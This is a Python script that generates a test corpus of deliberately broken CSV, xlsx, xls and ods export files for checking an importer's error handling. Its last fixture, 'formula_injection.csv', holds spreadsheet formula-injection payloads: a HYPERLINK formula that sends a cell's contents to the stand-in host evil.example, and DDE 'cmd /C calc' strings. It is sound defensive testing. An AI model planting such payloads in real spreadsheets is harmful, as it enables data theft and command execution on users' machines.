"""Build the bad-input corpus in tests/data/bad/: small export files that are wrong on purpose.

Each file exercises one way a real export goes wrong (empty, wrong types, impossible dates,
Excel error cells, duplicate keys, encrypted or corrupt workbooks, UTF-16 text, formula-like
text ...). ``EXPECTED.toml`` beside them says, per file, the exact problem lines and exit code
the importer must give; ``tests/test_bad_inputs.py`` checks them. Run from the repository root:

    python tests/data/make_bad_corpus.py

Two files need a package that is not a project dependency; install it only to rebuild them
(otherwise the committed copy is kept): ``password_protected.xlsx`` needs ``msoffcrypto-tool``
and ``legacy.xls`` needs ``xlwt``. The 50 MB and over-the-limit files are not here: the test
makes them in a temporary folder.
"""

from __future__ import annotations

import io
import random
import sys
import zipfile
from collections.abc import Callable
from datetime import date, datetime
from pathlib import Path
from xml.sax.saxutils import escape

import openpyxl

OUT = Path(__file__).resolve().parent / "bad"
FIXED_TIME = datetime(2026, 1, 1)

PROJECTS = "Project ID,Project Name,Service Group,Stage,Start Date,Planned Finish"
GOOD_PROJECT = "P001,Electronic observations,Medicine,Delivery,01/04/2025,31/03/2026"
TRAINING = "Assignment Number,Course Title,Course Date,Attendance Status"
REPORTS = "Project ID,Report Date,Overall RAG"


def csv(*lines: str) -> bytes:
    """CSV text (CRLF, as Excel writes it) encoded as UTF-8."""
    return ("\r\n".join(lines) + "\r\n").encode("utf-8")


def workbook(rows: list[list[object]], title: str = "Sheet1",
             edit: Callable[[openpyxl.Workbook], None] | None = None) -> bytes:
    """A one-sheet xlsx holding ``rows`` (fixed document times, so rebuilds differ little)."""
    book = openpyxl.Workbook()
    sheet = book.active
    sheet.title = title
    for row in rows:
        sheet.append(row)
    if edit:
        edit(book)
    book.properties.created = book.properties.modified = FIXED_TIME
    buffer = io.BytesIO()
    book.save(buffer)
    return buffer.getvalue()


def project_rows() -> list[list[object]]:
    return [PROJECTS.split(","),
            ["P001", "Electronic observations", "Medicine", "Delivery", date(2025, 4, 1),
             date(2026, 3, 31)],
            ["P002", "Theatre scheduling", "Surgery", "Planning", date(2025, 6, 1),
             date(2026, 9, 30)]]


def error_cells(book: openpyxl.Workbook) -> None:
    sheet = book.active
    sheet["E2"] = "#REF!"
    sheet["E2"].data_type = "e"
    sheet["F3"] = "#N/A"
    sheet["F3"].data_type = "e"


def merged_header(book: openpyxl.Workbook) -> None:
    """A two-row header as people draw it: 'Dates' merged over two columns above them."""
    sheet = book.active
    sheet.insert_rows(1)
    sheet["A1"] = "Project"
    sheet.merge_cells("A1:D1")
    sheet["E1"] = "Dates"
    sheet.merge_cells("E1:F1")


def merged_key_header(book: openpyxl.Workbook) -> None:
    """The header cell of a required column merged away into its neighbour."""
    sheet = book.active
    sheet["A1"] = "Project ID and Name"
    sheet.merge_cells("A1:B1")


def hidden_data(book: openpyxl.Workbook) -> None:
    """The only data sits on a hidden sheet; the visible one is blank."""
    data = book.create_sheet("Data")
    for row in project_rows():
        data.append(row)
    data.sheet_state = "hidden"


def ods(rows: list[list[str]]) -> bytes:
    """A minimal OpenDocument spreadsheet written by hand (no extra package needed)."""
    cells = "".join(
        "<table:table-row>" + "".join(
            f'<table:table-cell office:value-type="string"><text:p>{escape(c)}</text:p>'
            "</table:table-cell>" for c in row) + "</table:table-row>"
        for row in rows)
    content = (
        '<?xml version="1.0" encoding="UTF-8"?>'
        '<office:document-content '
        'xmlns:office="urn:oasis:names:tc:opendocument:xmlns:office:1.0" '
        'xmlns:table="urn:oasis:names:tc:opendocument:xmlns:table:1.0" '
        'xmlns:text="urn:oasis:names:tc:opendocument:xmlns:text:1.0" office:version="1.2">'
        f'<office:body><office:spreadsheet><table:table table:name="Projects">{cells}'
        "</table:table></office:spreadsheet></office:body></office:document-content>")
    manifest = (
        '<?xml version="1.0" encoding="UTF-8"?>'
        '<manifest:manifest xmlns:manifest="urn:oasis:names:tc:opendocument:xmlns:manifest:1.0" '
        'manifest:version="1.2">'
        '<manifest:file-entry manifest:full-path="/" manifest:media-type='
        '"application/vnd.oasis.opendocument.spreadsheet"/>'
        '<manifest:file-entry manifest:full-path="content.xml" manifest:media-type="text/xml"/>'
        "</manifest:manifest>")
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as archive:
        stamp = (2026, 1, 1, 0, 0, 0)
        archive.writestr(zipfile.ZipInfo("mimetype", stamp),
                         "application/vnd.oasis.opendocument.spreadsheet")
        archive.writestr(zipfile.ZipInfo("content.xml", stamp), content,
                         compress_type=zipfile.ZIP_DEFLATED)
        archive.writestr(zipfile.ZipInfo("META-INF/manifest.xml", stamp), manifest,
                         compress_type=zipfile.ZIP_DEFLATED)
    return buffer.getvalue()


def legacy_xls() -> bytes | None:
    """A real Excel 97-2003 .xls (needs xlwt; None keeps the committed copy)."""
    try:
        import xlwt
    except ImportError:
        return None
    book = xlwt.Workbook()
    sheet = book.add_sheet("Projects")
    rows = [PROJECTS.split(","),
            ["P001", "Electronic observations", "Medicine", "Delivery", "01/04/2025",
             "31/03/2026"],
            ["P002", "Theatre scheduling", "Surgery", "Sideways", "01/06/2025", "30/09/2026"]]
    for r, row in enumerate(rows):
        for c, value in enumerate(row):
            sheet.write(r, c, value)
    buffer = io.BytesIO()
    book.save(buffer)
    return buffer.getvalue()


def encrypted_xlsx() -> bytes | None:
    """A real password-protected xlsx (password "nhs"; needs msoffcrypto-tool)."""
    try:
        from msoffcrypto.format.ooxml import OOXMLFile
    except ImportError:
        return None
    plain = io.BytesIO(workbook(project_rows()))
    encrypted = io.BytesIO()
    OOXMLFile(plain).encrypt("nhs", encrypted)
    return encrypted.getvalue()


def zip_of_csv() -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as archive:
        archive.writestr(zipfile.ZipInfo("projects.csv", (2026, 1, 1, 0, 0, 0)),
                         csv(PROJECTS, GOOD_PROJECT))
    return buffer.getvalue()


FILES: dict[str, Callable[[], bytes | None]] = {
    # --- files that cannot be read -------------------------------------------------------
    "empty.csv": lambda: b"",
    "corrupt.xlsx": lambda: random.Random(7).randbytes(2048),
    "password_protected.xlsx": encrypted_xlsx,
    "csv_that_is_a_zip.csv": zip_of_csv,
    "xlsx_that_is_text.xlsx": lambda: csv(PROJECTS, GOOD_PROJECT),
    "csv_that_is_a_pdf.csv": lambda: b"%PDF-1.4\n%\xe2\xe3\xcf\xd3\n1 0 obj\n<< >>\nendobj\n"
                                      + random.Random(3).randbytes(600),
    "report.pdf": lambda: b"%PDF-1.4\n%%EOF\n",
    "unterminated_quote.csv": lambda: csv(
        PROJECTS, 'P001,"Electronic observations,Medicine,Delivery,01/04/2025,31/03/2026',
        "P002,Theatre scheduling,Surgery,Planning,01/06/2025,30/09/2026"),
    # --- sheets that hold no source ------------------------------------------------------
    "headers_only.csv": lambda: csv(PROJECTS),
    "missing_required_column.csv": lambda: csv(
        "Project ID,Project Name,Service Group,Start Date,Planned Finish",
        "P001,Electronic observations,Medicine,01/04/2025,31/03/2026"),
    "header_typo.csv": lambda: csv(
        "Projct ID,Project Name,Service Group,Stage,Start Date,Planned Finish",
        "P001,Electronic observations,Medicine,Delivery,01/04/2025,31/03/2026"),
    "hidden_sheet_only.xlsx": lambda: workbook([], title="Cover", edit=hidden_data),
    "merged_header_cells.xlsx": lambda: workbook(project_rows(), edit=merged_header),
    "merged_key_header.xlsx": lambda: workbook(project_rows(), edit=merged_key_header),
    # --- wrong type, one file per kind of column -----------------------------------------
    "wrong_text.csv": lambda: csv(PROJECTS, GOOD_PROJECT,
                                  "   ,Theatre scheduling,Surgery,Planning,01/06/2025,30/09/2026",
                                  "P003,#VALUE!,Medicine,Planning,01/06/2025,30/09/2026"),
    "wrong_date.csv": lambda: csv(PROJECTS, GOOD_PROJECT,
                                  "P002,Theatre scheduling,Surgery,Planning,next week,30/09/2026"),
    "wrong_int.csv": lambda: csv(PROJECTS + ",Priority", GOOD_PROJECT + ",2",
                                 "P002,Theatre scheduling,Surgery,Planning,01/06/2025,"
                                 "30/09/2026,high",
                                 "P003,Bed management,Medicine,Planning,01/06/2025,30/09/2026,2.5"),
    "wrong_float.csv": lambda: csv(
        "Request ID,Date Received,Service,Directorate,Status,Hours",
        "R1,01/05/2025,Coaching,Medicine,Closed,3.5",
        "R2,02/05/2025,Coaching,Surgery,Closed,lots"),
    "wrong_money.csv": lambda: csv(PROJECTS + ",Budget", GOOD_PROJECT + ",\"£1,234.50\"",
                                   "P002,Theatre scheduling,Surgery,Planning,01/06/2025,"
                                   "30/09/2026,ten thousand pounds"),
    "wrong_percent.csv": lambda: csv(REPORTS + ",% Complete", "P001,30/04/2025,Green,45%",
                                     "P002,30/04/2025,Amber,about half"),
    "wrong_vocab_stage.csv": lambda: csv(PROJECTS, GOOD_PROJECT,
                                         "P002,Theatre scheduling,Surgery,Sideways,01/06/2025,"
                                         "30/09/2026"),
    "wrong_fy.csv": lambda: csv("KPI Code,FY,Target", "TRAINED_STAFF,2025/26,120",
                                "TRAINED_STAFF,2025/27,120", "PROJECTS_SUPPORTED,next year,20"),
    "wrong_month.csv": lambda: csv("KPI Code,Month,Value", "SATISFACTION,Apr 2025,91",
                                   "SATISFACTION,Smarch 2025,88"),
    # --- values of the right type that are still wrong -----------------------------------
    "impossible_date.csv": lambda: csv(PROJECTS, GOOD_PROJECT,
                                       "P002,Theatre scheduling,Surgery,Planning,31/02/2026,"
                                       "30/09/2026"),
    "us_date.csv": lambda: csv(PROJECTS, GOOD_PROJECT,
                               "P002,Theatre scheduling,Surgery,Planning,01/06/2025,12/25/2025"),
    "date_out_of_range.csv": lambda: csv(PROJECTS, GOOD_PROJECT,
                                         "P002,Theatre scheduling,Surgery,Planning,01/06/1900,"
                                         "30/09/2026"),
    "excel_error_cells.xlsx": lambda: workbook(project_rows(), edit=error_cells),
    "duplicate_keys.csv": lambda: csv(PROJECTS, GOOD_PROJECT,
                                      "P002,Theatre scheduling,Surgery,Planning,01/06/2025,"
                                      "30/09/2026",
                                      "P001,Electronic observations again,Medicine,Delivery,"
                                      "01/04/2025,31/03/2026"),
    "unknown_rag_purple.csv": lambda: csv(REPORTS, "P001,30/04/2025,Green",
                                          "P002,30/04/2025,Purple"),
    "out_of_range_scores.csv": lambda: csv(
        TRAINING + ",Feedback Score,Confidence Before,Confidence After",
        "1001,Intro to PM,01/05/2025,Attended,5,3,8",
        "1002,Intro to PM,01/05/2025,Attended,6,0,11"),
    "percent_over_100.csv": lambda: csv(REPORTS + ",% Complete", "P001,30/04/2025,Green,100",
                                        "P002,30/04/2025,Amber,140"),
    "negative_money.csv": lambda: csv(PROJECTS + ",Budget,Spend to Date",
                                      GOOD_PROJECT + ",1000,250",
                                      "P002,Theatre scheduling,Surgery,Planning,01/06/2025,"
                                      "30/09/2026,-5000,(250)"),
    "blank_required_values.csv": lambda: csv(TRAINING, "1001,Intro to PM,01/05/2025,Attended",
                                             "1002,,01/05/2025,", "1003,Intro to PM,,DNA"),
    # --- encodings and other formats ------------------------------------------------------
    "utf16_with_bom.csv": lambda: "\r\n".join([
        PROJECTS + ",Budget", GOOD_PROJECT + ",£1200",
        "P002,Théâtre scheduling,Surgery,Sideways,01/06/2025,30/09/2026,£900"]).encode("utf-16"),
    "utf16_no_bom.csv": lambda: "\n".join([
        TRAINING, "1001,Intro to PM,01/05/2025,Attended",
        "1002,Intro to PM,01/05/2025,Maybe"]).encode("utf-16-le"),
    "legacy.xls": legacy_xls,
    "open_document.ods": lambda: ods([
        PROJECTS.split(","),
        GOOD_PROJECT.split(","),
        "P002,Theatre scheduling,Surgery,Planning,31/02/2026,30/09/2026".split(",")]),
    # --- text that a spreadsheet would run as a formula ----------------------------------
    "formula_injection.csv": lambda: csv(
        PROJECTS,
        'P001,"=HYPERLINK(""http://evil.example/?x=""&A1,""Click"")",Medicine,Delivery,'
        "01/04/2025,31/03/2026",
        "P002,+cmd|' /C calc'!A0,Surgery,Planning,01/06/2025,30/09/2026",
        "P003,@SUM(1+1)*cmd|' /C calc'!A0,Medicine,Planning,01/06/2025,30/09/2026",
        "P004,-2+3+cmd|' /C calc'!A0,Medicine,Planning,01/06/2025,30/09/2026"),
}


def main() -> int:
    OUT.mkdir(exist_ok=True)
    kept = []
    for name, build in FILES.items():
        data = build()
        if data is None:
            if not (OUT / name).exists():
                print(f"{name}: cannot build (missing package) and no copy exists",
                      file=sys.stderr)
                return 1
            kept.append(name)
            continue
        (OUT / name).write_bytes(data)
    print(f"wrote {len(FILES) - len(kept)} files to {OUT}"
          + (f"; kept the committed {', '.join(kept)}" if kept else ""))
    return 0


if __name__ == "__main__":
    raise SystemExit(main())
